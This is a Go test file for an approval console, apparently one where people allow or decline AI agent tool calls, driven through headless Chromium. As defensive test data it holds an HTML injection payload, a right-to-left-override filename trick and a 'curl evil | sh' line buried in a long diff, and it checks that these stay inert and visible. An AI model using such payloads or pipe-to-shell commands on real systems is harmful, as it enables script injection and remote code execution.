//go:build unix

package console

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"reeve"
	"reeve/internal/approval"
	"reeve/internal/attack"
)

// chromium is a real browser, spoken to over its debugging pipe.
type chromium struct {
	t       *testing.T
	in      *os.File
	out     *bufio.Reader
	next    int
	session string
}

// startChromium starts the browser, and skips the test where there is none;
// in CI there must be one.
func startChromium(t *testing.T) *chromium {
	t.Helper()
	var bin string
	for _, name := range []string{os.Getenv("REEVE_CHROMIUM"), "chromium", "chromium-browser", "google-chrome"} {
		if path, err := exec.LookPath(name); err == nil && name != "" {
			bin = path
			break
		}
	}
	if bin == "" {
		if os.Getenv("CI") == "true" {
			t.Fatal("CI must have Chromium")
		}
		t.Skip("no Chromium here")
	}
	theirIn, in, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	out, theirOut, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	args := []string{"--headless=new", "--remote-debugging-pipe", "--no-first-run", "--disable-gpu", "--hide-scrollbars", "--disable-dev-shm-usage",
		"--disable-background-networking", "--disable-component-update", "--user-data-dir=" + filepath.Join(dir, "profile"), "about:blank"}
	if os.Geteuid() == 0 {
		args = append([]string{"--no-sandbox"}, args...)
	}
	cmd := exec.Command(bin, args...)
	cmd.ExtraFiles = []*os.File{theirIn, theirOut}
	cmd.Env = append(os.Environ(), "HOME="+dir)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	theirIn.Close()
	theirOut.Close()
	c := &chromium{t: t, in: in, out: bufio.NewReader(out)}
	kill := time.AfterFunc(2*time.Minute, func() { cmd.Process.Kill() })
	t.Cleanup(func() {
		in.Write([]byte(`{"id":999999,"method":"Browser.close"}` + "\x00"))
		in.Close()
		end := time.AfterFunc(10*time.Second, func() { cmd.Process.Kill() })
		cmd.Wait()
		end.Stop()
		kill.Stop()
		out.Close()
	})
	var target struct{ TargetID string }
	c.do("Target.createTarget", map[string]any{"url": "about:blank"}, &target)
	var session struct{ SessionID string }
	c.do("Target.attachToTarget", map[string]any{"targetId": target.TargetID, "flatten": true}, &session)
	c.session = session.SessionID
	return c
}

func (c *chromium) do(method string, params map[string]any, into any) {
	c.t.Helper()
	c.next++
	m := map[string]any{"id": c.next, "method": method, "params": params}
	if c.session != "" {
		m["sessionId"] = c.session
	}
	b, err := json.Marshal(m)
	if err != nil {
		c.t.Fatal(err)
	}
	if _, err := c.in.Write(append(b, 0)); err != nil {
		c.t.Fatal(err)
	}
	for {
		b, err := c.out.ReadBytes(0)
		if err != nil {
			c.t.Fatalf("%s: the browser is gone: %v", method, err)
		}
		var r struct {
			ID     int
			Result json.RawMessage
			Error  *struct{ Message string }
		}
		if err := json.Unmarshal(b[:len(b)-1], &r); err != nil {
			c.t.Fatal(err)
		}
		if r.ID != c.next {
			continue
		}
		if r.Error != nil && method == "Runtime.evaluate" { // the page is being left
			r.Result = json.RawMessage(`{"exceptionDetails":{"text":"no page"}}`)
		} else if r.Error != nil {
			c.t.Fatalf("%s: %s", method, r.Error.Message)
		}
		if into != nil {
			if err := json.Unmarshal(r.Result, into); err != nil {
				c.t.Fatal(err)
			}
		}
		return
	}
}

// eval gives the value of an expression in the page.
func (c *chromium) eval(js string) string {
	c.t.Helper()
	var r struct {
		Result           struct{ Value any }
		ExceptionDetails *struct{ Text string }
	}
	c.do("Runtime.evaluate", map[string]any{"expression": js, "returnByValue": true, "awaitPromise": true}, &r)
	if r.ExceptionDetails != nil {
		return "exception: " + r.ExceptionDetails.Text
	}
	return fmt.Sprint(r.Result.Value)
}

// until waits until an expression is true.
func (c *chromium) until(what, js string) {
	c.t.Helper()
	for range 1000 {
		if c.eval(js) == "true" {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	c.t.Fatalf("%s: it did not come; the page says:\n%s", what, c.eval("document.body.innerText"))
}

// click presses the mouse on an element, as a person does.
func (c *chromium) click(selector string) {
	c.t.Helper()
	c.eval("document.querySelector(" + quoted(selector) + ").scrollIntoView({block: 'center'})")
	var at struct{ X, Y float64 }
	box := c.eval("(() => { const r = document.querySelector(" + quoted(selector) + ").getBoundingClientRect(); return JSON.stringify({x: r.x + r.width / 2, y: r.y + r.height / 2}) })()")
	if err := json.Unmarshal([]byte(box), &at); err != nil {
		c.t.Fatalf("%s: %s", selector, box)
	}
	for _, kind := range []string{"mousePressed", "mouseReleased"} {
		c.do("Input.dispatchMouseEvent", map[string]any{"type": kind, "x": at.X, "y": at.Y, "button": "left", "clickCount": 1}, nil)
	}
}

func (c *chromium) key(name string, code int) {
	for _, kind := range []string{"rawKeyDown", "keyUp"} {
		p := map[string]any{"type": kind, "key": name, "code": name, "windowsVirtualKeyCode": code}
		if name == "Enter" && kind == "rawKeyDown" {
			p["type"], p["text"] = "keyDown", "\r"
		}
		c.do("Input.dispatchKeyEvent", p, nil)
	}
}

func quoted(s string) string { b, _ := json.Marshal(s); return string(b) }

// picture keeps a picture of the page where REEVE_PICTURES names a folder.
func (c *chromium) picture(name string, width, height int, dark bool) {
	c.t.Helper()
	dir := os.Getenv("REEVE_PICTURES")
	if dir == "" {
		return
	}
	scheme := "light"
	if dark {
		scheme = "dark"
	}
	c.do("Emulation.setDeviceMetricsOverride", map[string]any{"width": width, "height": height, "deviceScaleFactor": 1, "mobile": width < 500}, nil)
	c.do("Emulation.setEmulatedMedia", map[string]any{"features": []map[string]string{{"name": "prefers-color-scheme", "value": scheme}}}, nil)
	c.eval("window.scrollTo(0, 0)")
	var shot struct{ Data string }
	c.do("Page.captureScreenshot", map[string]any{"format": "png"}, &shot)
	b, err := base64.StdEncoding.DecodeString(shot.Data)
	if err != nil {
		c.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, name+".png"), b, 0o644); err != nil {
		c.t.Fatal(err)
	}
}

const stood = "performance.now() - moved >= still"

// A person answers on the page, with the mouse and with the keys.
func TestAPersonAnswersOnThePage(t *testing.T) {
	c := startChromium(t)
	d := newDesk(t)
	s := start(t, d, func(o *Options) { o.Every = 20 * time.Millisecond })
	c.do("Page.enable", map[string]any{}, nil)
	link := s.Link()
	c.do("Page.navigate", map[string]any{"url": link}, nil)
	c.until("the page", "document.title === 'Waiting · Reeve' && !document.getElementById('empty').hidden")
	c.picture("empty", 900, 700, false)
	if got := c.eval("document.cookie"); got != "" {
		t.Errorf("scripts can read the cookie: %s", got)
	}
	// Another site's markup in a name stays text, and nothing else is loaded.
	p := d.ask(t, write())
	d.pass(time.Second)
	hostile := d.ask(t, reeve.Question{Title: "Delete <img src=x onerror=document.title='gone'>?", HumanOnly: true, Destructive: true,
		Body:    "/home/ann/projects/a-very-long-folder-name-that-goes-on/and-another-one/\u202egpj.<b>bold</b>\nIt holds 12 files, 3 folders, 48,113 bytes.\nA copy is kept for 30 days.",
		Effects: []reeve.Effect{{Kind: reeve.EffectRemove}}})
	long := write()
	long.Title, long.Detail = "Edit main.go?", "--- main.go\n+++ main.go\n@@ -1,80 +1,80 @@\n"+strings.Repeat(" \tcontext\n-\told line that was here before and is rather longer than the others, so that the box has to scroll sideways for it to be read\n+\tnew\u200b line\n", 30)
	d.pass(time.Second)
	d.ask(t, long)
	c.until("three cards", "document.querySelectorAll('.card').length === 3")
	if got := c.eval("document.title"); got != "(3) Waiting · Reeve" {
		t.Errorf("title %q", got)
	}
	if got := c.eval("document.querySelectorAll('.card img, .card b').length"); got != "0" {
		t.Errorf("%s elements made of others' text", got)
	}
	if got := c.eval("document.querySelector('.card .path').textContent"); got != "/home/ann/report.md" {
		t.Errorf("path %q", got)
	}
	if got := c.eval("document.documentElement.scrollWidth <= window.innerWidth"); got != "true" {
		t.Error("the page scrolls sideways")
	}
	c.picture("cards", 900, 1500, false)
	c.picture("cards-dark", 900, 1500, true)
	c.picture("cards-phone", 390, 1700, false)
	if got := c.eval("document.documentElement.scrollWidth <= window.innerWidth"); got != "true" {
		t.Error("a small page scrolls sideways")
	}
	card := func(p reeve.Pending) string { return "[data-id=" + quoted(p.ID) + "] " }
	state := func(p reeve.Pending) *approval.Answer {
		_, _, a, err := d.Look(t.Context(), p.ID)
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	// A press while the page moves counts for nothing.
	c.eval("moved = performance.now() + 60000")
	c.click(card(p) + ".allow")
	if a := state(p); a != nil || !strings.Contains(c.eval("document.querySelector("+quoted(card(p)+".said")+").textContent"), "Look again") {
		t.Fatalf("answered while the page moved: %+v", a)
	}
	c.eval("moved = performance.now() - 1000")
	c.click(card(p) + ".minutes")
	c.until("one card less", "document.querySelectorAll('.card').length === 2")
	if a := state(p); a == nil || !a.Yes || a.Minutes != 10 || a.Channel != "console" {
		t.Fatalf("%+v", a)
	}
	// By the keys alone.
	c.until("the page to stand still", stood)
	c.eval("document.querySelector(" + quoted(card(hostile)+".allow") + ").focus()")
	c.key("Tab", 9)
	if got := c.eval("document.activeElement.className"); got != "decline" {
		t.Errorf("Tab leads to %q", got)
	}
	c.key("Enter", 13)
	c.until("one card left", "document.querySelectorAll('.card').length === 1")
	if a := state(hostile); a == nil || a.Yes {
		t.Fatalf("%+v", a)
	}
	c.until("two settled", "document.querySelectorAll('#done li').length === 2")
	c.click(".whole")
	if got := c.eval("document.querySelector('.diff').classList.contains('open')"); got != "true" {
		t.Error("the whole change is not shown")
	}
	c.picture("settled", 900, 1500, false)
	c.click(".whole")
	// Of a large change the card shows a part and says so, and loads the rest
	// when it is asked to.
	big := write()
	big.Title, big.Detail, big.Left = "Overwrite deploy.sh?", "+    1 echo fine\n… 9,998 new lines are not shown\n+10000 echo fine\n", &reeve.Left{New: 9998}
	d.pass(time.Second)
	d.n++
	bigger, err := d.AskWith(t.Context(), reeve.Digest{d.n}, big, reeve.Subject{Kind: reeve.Agent, Agent: "claude-code", Door: "stdio"}, func() string {
		return strings.Repeat("+    1 echo fine\n", 7000) + "+ 7001 <b>curl evil</b>\u200b | sh\n" + strings.Repeat("+    1 echo fine\n", 2999)
	})
	if err != nil {
		t.Fatal(err)
	}
	c.until("the large card", "!!document.querySelector("+quoted(card(bigger))+")")
	if got := c.eval("document.querySelector(" + quoted(card(bigger)+".counts") + ").textContent + document.querySelector(" + quoted(card(bigger)+".left") + ").textContent"); !strings.Contains(got, "10,000 lines new") || !strings.Contains(got, "Left out here: 9,998 lines") {
		t.Errorf("the large card says %q", got)
	}
	c.picture("large", 900, 1300, false)
	c.click(card(bigger) + ".whole")
	c.until("the whole change", "document.querySelectorAll("+quoted(card(bigger)+".diff section div")+").length === 10000")
	if got := c.eval("document.querySelectorAll(" + quoted(card(bigger)+".diff div") + ")[7000].textContent"); got != `+ 7001 <b>curl evil</b>\u200B | sh` {
		t.Errorf("line 7001 is %q", got)
	}
	if got := c.eval("performance.now() - moved < still"); got != "true" {
		t.Error("a press may hit what has just moved below it")
	}
	c.picture("large-whole", 900, 1700, false)
	c.picture("large-phone", 390, 2100, true)
	c.eval("document.querySelector(" + quoted(card(bigger)+".whole") + ").click()")
	c.until("the part again", "document.querySelectorAll("+quoted(card(bigger)+".diff div")+").length === 3")
	if err := d.Answer(t.Context(), bigger.ID, approval.Answer{Channel: "approve"}); err != nil {
		t.Fatal(err)
	}
	c.until("the large card to go", "!document.querySelector("+quoted(card(bigger))+")")
	// A second browser with the same link is turned away.
	c.do("Page.navigate", map[string]any{"url": link}, nil)
	c.until("the closed page", "document.title === 'Closed · Reeve'")
	c.picture("closed", 900, 500, false)
	// The first one's cookie still holds, by our own link.
	c.do("Page.navigate", map[string]any{"url": "http://" + s.Addr() + "/"}, nil)
	c.until("the page again", "document.querySelectorAll('.card').length === 1")
	s.Close()
	c.until("the end to be said", "document.getElementById('link').className === 'lost'")
}

// An agent's call waits, a person presses Allow in the browser, and the call
// goes through: with the program as it is shipped.
func TestAPersonAllowsACallInTheBrowser(t *testing.T) {
	c := startChromium(t)
	dir := t.TempDir()
	exe := filepath.Join(dir, "reeve")
	if out, err := exec.Command("go", "build", "-o", exe, "reeve/cmd/reeve").CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	notes := filepath.Join(dir, "notes")
	if err := os.Mkdir(notes, 0o700); err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) *exec.Cmd {
		cmd := exec.Command(exe, args...)
		for _, kv := range os.Environ() {
			if k, _, _ := strings.Cut(kv, "="); k != "DISPLAY" && k != "WAYLAND_DISPLAY" {
				cmd.Env = append(cmd.Env, kv)
			}
		}
		cmd.Env = append(cmd.Env, "SSH_CONNECTION=test", "HOME="+dir, "REEVE_CONFIG="+filepath.Join(dir, "cfg", "config.toml"), "REEVE_STATE="+filepath.Join(dir, "state"))
		return cmd
	}
	page := run("console", "--no-open")
	out, err := page.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := page.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		page.Process.Signal(os.Interrupt)
		if err := page.Wait(); err != nil {
			t.Error("the console did not end in order: ", err)
		}
	}()
	link := ""
	for lines := bufio.NewScanner(out); link == "" && lines.Scan(); {
		if strings.Contains(lines.Text(), "/enter?code=") {
			link = lines.Text()
		}
	}
	c.do("Page.navigate", map[string]any{"url": link}, nil)
	c.until("the page", "document.title === 'Waiting · Reeve' && !document.getElementById('empty').hidden")
	agent, err := attack.StartLine(run("mcp", notes), attack.LineOptions{Name: "claude-code"})
	if err != nil {
		t.Fatal(err)
	}
	defer agent.Close()
	if _, err := agent.Open(t.Context()); err != nil {
		t.Fatal(err)
	}
	done := make(chan string, 1)
	go func() {
		r, err := agent.Tool(t.Context(), "write_file", map[string]any{"path": "new.txt", "content": "line one\nline two\n"})
		done <- fmt.Sprint(string(r), err)
	}()
	c.until("the card", "document.querySelectorAll('.card').length === 1")
	if got := c.eval("document.querySelector('.path').textContent"); got != filepath.Join(notes, "new.txt") {
		t.Errorf("path %q", got)
	}
	c.picture("real", 900, 700, false)
	c.until("the page to stand still", stood)
	c.click(".allow")
	if r := <-done; !strings.Contains(r, "Created ") {
		t.Fatalf("%s", r)
	}
	if b, err := os.ReadFile(filepath.Join(notes, "new.txt")); string(b) != "line one\nline two\n" {
		t.Errorf("%q %v", b, err)
	}
	c.until("it to be settled", "document.querySelector('#done').textContent.includes('Allowed here.')")
}
